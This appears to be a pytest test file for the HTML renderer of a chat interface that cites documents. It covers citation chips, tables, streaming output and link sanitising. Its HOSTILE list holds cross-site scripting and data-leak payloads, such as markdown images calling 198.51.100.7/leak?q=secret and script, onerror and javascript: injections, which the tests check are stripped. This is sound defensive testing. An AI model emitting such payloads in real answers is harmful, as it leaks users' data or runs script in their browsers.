from __future__ import annotations

import re
from dataclasses import replace

import pytest

from rag.domain import Document, DocumentState, Quote, Span, Verdict
from ui.references import Reference
from ui.render import CLEANER, excerpt, render_answer, render_page_text, render_partial, shorten

DOCUMENT = Document(
    "d1",
    "l1",
    "guide.pdf",
    "A <guide>",
    "application/pdf",
    "00",
    1,
    DocumentState.READY,
    "",
    9,
    True,
)


def citation(number: int, marker: Span) -> Reference:
    return Reference(str(number), Quote(DOCUMENT, 2, "iv", 0, 5, "words"), marker)


def test_a_marker_becomes_a_chip_that_leads_to_its_citation() -> None:
    html = render_answer("Twelve billion [3].", [citation(3, Span(15, 18))], 7)
    assert '<a class="cite" href="#cite-7-0"' in html
    assert 'aria-label="Source 3: A &lt;guide&gt;, page iv"' in html
    assert re.search(r"billion\.<a [^>]+>3</a></p>", html)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("So it is [1]. And", "So it is.1 And"),
        ("So it is [1] [2], and", "So it is,12 and"),
        ("Is it [1]? Yes.", "Is it?\u20601 Yes."),
        ("It is so. [1] And", "It is so.1 And"),
        ("It is “so.” [1]", "It is “so.”\u20601"),
        ("See [1].5 of it", "See1.5 of it"),
        ("[1]. No word", "1. No word"),
        ("It is **so.** [1] And **so!** [1]", "It is so.\u20601 And so!\u20601"),
    ],
)
def test_a_chip_clings_to_its_word_and_follows_the_punctuation(text: str, shown: str) -> None:
    markers = [Span(*match.span()) for match in re.finditer(r"\[\d\]", text)]
    citations = [citation(int(text[marker.start + 1]), marker) for marker in markers]
    for html in (render_answer(text, citations, 0), render_partial(text + "\n")):
        assert re.sub(r"<[^>]+>", "", html).strip() == shown


def test_a_citation_of_what_does_not_say_it_is_marked() -> None:
    doubtful = replace(citation(1, Span(4, 7)), verdict=Verdict.UNSUPPORTED)
    html = render_answer("So. [1]", [doubtful], 0)
    assert 'class="cite doubt"' in html
    assert "page iv, does not say this" in html


def test_one_marker_may_carry_two_citations() -> None:
    html = render_answer("So it is [1, 2].", [citation(n, Span(9, 15)) for n in (1, 2)], 0)
    assert 'href="#cite-0-0"' in html
    assert 'href="#cite-0-1"' in html
    assert "[1, 2]" not in html


def test_markers_survive_inside_lists_tables_and_emphasis() -> None:
    text = "- [1] first\n- **bold [1]**\n\n| a | b |\n|---|---|\n| x | 12 B [1] |\n"
    markers = [Span(*match.span()) for match in re.finditer(r"\[1\]", text)]
    html = render_answer(text, [citation(1, marker) for marker in markers], 0)
    assert html.count('class="cite"') == 3
    assert html.count("<li>") == 2
    assert '<td class="n">12 B<a' in html


def test_numbers_in_tables_and_their_heads_are_aligned() -> None:
    html = render_answer("| model | size |\n|---|---|\n| a | 46.7 B |\n| b | 141 B |\n", [], 0)
    assert '<th class="n">size</th>' in html
    assert "<th>model</th>" in html
    assert html.count('<td class="n">') == 2


def test_a_column_keeps_its_side_while_its_table_is_written() -> None:
    text = "| a | b | c |\n|---|:-:|---|\n| x | — | 1 |\n| y | 2 | z |\n| w | v | 3 |\n"
    whole = render_answer(text, [], 0)
    assert re.findall(r'class="n">(.)', whole) == ["b", "c", "—", "1", "2", "z", "v", "3"]
    for end in range(text.index("| y |"), len(text) + 1):
        assert '<th class="n">c</th>' in render_partial(text[:end])
    assert "style" not in whole


def test_an_image_is_only_its_description() -> None:
    html = render_answer(
        "See ![the *map*](http://evil/x.png) and ![](//evil/y) [z](/local).", [], 0
    )
    assert html == "<p>See the map and  z.</p>\n"


HOSTILE = [
    "![x](http://198.51.100.7/leak?q=secret)",
    "![x][1]\n\n[1]: http://198.51.100.7/leak",
    "<img src=http://198.51.100.7/x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<style>*{background:url(http://198.51.100.7)}</style>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//198.51.100.7/a)",
    "[x](#cite-0-0)",
    "[x](/gradio_api/file=http://198.51.100.7/)",
    "<iframe src=http://198.51.100.7></iframe><video poster=http://198.51.100.7>",
    '<svg onload="alert(1)"><image href="http://198.51.100.7"/></svg>',
    "<p style=\"background:url('http://198.51.100.7')\">x</p>",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| a |\n",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("finished", [True, False])
def test_nothing_in_an_answer_loads_or_runs(text: str, finished: bool) -> None:
    html = render_answer(text, [], 0) if finished else render_partial(text)
    tags = re.findall(r"<[^>]*>", html)
    names = {re.split(r"[\s>]", tag.strip("</"))[0] for tag in tags}
    assert names <= {"p", "a", "code", "table", "thead", "tbody", "tr", "th", "td", "span"}
    attributes = {name for tag in tags for name in re.findall(r"\s([\w-]+)=", tag)}
    assert attributes <= {"href", "rel", "target", "class"}
    targets = [target for tag in tags for target in re.findall(r'href="([^"]*)"', tag)]
    assert all(target.startswith(("http://", "https://", "mailto:")) for target in targets)


def test_links_open_elsewhere_and_tell_nothing() -> None:
    html = render_answer("See [the site](https://mistral.ai/x).", [], 0)
    assert 'href="https://mistral.ai/x"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_placeholders_in_the_text_of_a_model_are_not_chips() -> None:
    text = "a \u2e550\u2e56 \ue0000\ue001b\ue002 [1]"
    html = render_answer(text, [citation(1, Span(len(text) - 3, len(text)))], 0)
    assert html.count('class="cite"') == 1
    assert not set("\u2e55\u2e56\ue000\ue001\ue002") & set(html)


@pytest.mark.parametrize("tail", ["[", "[1", "[1,", "[1, 2", " [12"])
def test_a_half_written_marker_is_hidden(tail: str) -> None:
    assert render_partial("So it is" + tail) == "<p>So it is</p>\n"


@pytest.mark.parametrize(
    "head", ["|", "| a", "| a | b |\n", "| a | b |\n|--", "| a | b |\n|---|--"]
)
def test_the_head_of_a_table_waits_until_it_is_whole(head: str) -> None:
    assert render_partial("So it is\n\n" + head) == "<p>So it is</p>\n"
    assert "<th>a</th>" in render_partial("So\n\n| a | b |\n|---|---|\n| c")


def test_markers_keep_their_room_while_the_answer_is_written() -> None:
    html = render_partial("So it is [1]. And")
    assert '<span class="cite pending">1</span>' in html


def test_every_prefix_of_an_answer_renders() -> None:
    text = "# Head\n\nA **b** [1] `c\n\n| a | b |\n|---|---|\n| 1 [2] | 2 |\n\n1. x\n```\ny [3]\n"
    for end in range(len(text) + 1):
        assert "\u2e55" not in render_partial(text[:end])


def test_page_text_is_escaped_and_its_quote_marked() -> None:
    html = render_page_text("a <b>\n# Head\nc & d", {Span(2, 5): "open", Span(13, 16): "other"})
    assert 'a <mark class="open">&lt;b&gt;</mark>' in html
    assert '<span class="line hd"><i># </i>Head</span>' in html
    assert '<mark class="other">c &amp;</mark> d' in html


def test_the_lines_of_an_opened_passage_have_an_edge() -> None:
    text = "one\n# two\n\n| a |\nfive"
    html = render_page_text(text, {Span(6, 9): "seen"}, Span(4, 16))
    assert re.findall(r'class="line ?([^"]*)"', html) == ["", "hd in", " in", "row in", ""]
    assert '<mark class="seen">two</mark>' in html


def test_a_mark_over_lines_keeps_every_character() -> None:
    html = render_page_text("one\ntwo\nthree", {Span(1, 9): "open", Span(2, 4): "other"})
    assert re.findall(r'<mark class="(\w+)">(\w+)</mark>', html) == [
        ("open", "ne"),
        ("open", "two"),
        ("open", "t"),
    ]
    assert re.sub(r"<[^>]+>", "", html) == "onetwothree"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("4 4 Mixtral: a sparse\nmixture", "Mixtral: a sparse mixture"),
        ("12 apostles came", "12 apostles came"),
        ("2024 was good", "2024 was good"),
        (
            "## Prices\n| Model | Price |\n|---|--:|\n| **Small** | `$0.1` |",
            "Prices · Model · Price · Small · $0.1",
        ),
        ("> see [the site](https://a.b/c)\n- one\n- two", "see the site one two"),
        ("-5 degrees, snake_case, a*b", "-5 degrees, snake_case, a*b"),
    ],
)
def test_an_excerpt_has_no_marks_and_no_page_numbers(text: str, shown: str) -> None:
    assert excerpt(text, 100) == shown


def test_shortening_ends_at_a_word() -> None:
    assert shorten("one two  three\nfour", 12) == "one two…"
    assert shorten("infor\x02\r\nmation", 20) == "information"


@pytest.mark.parametrize(
    ("target", "stays"),
    [
        ("#cite-0-12", True),
        ("https://mistral.ai/x", True),
        ("mailto:a@b.example", True),
        ("/gradio_api/file=http://198.51.100.7/", False),
        ("#elsewhere", False),
        ("//198.51.100.7/a", False),
        ("page.html", False),
        ("javascript:alert(1)", False),
    ],
)
def test_the_last_step_drops_every_target_but_the_web_and_our_own_chips(
    target: str, stays: bool
) -> None:
    assert ("href=" in CLEANER.clean(f'<a href="{target}">x</a>')) == stays
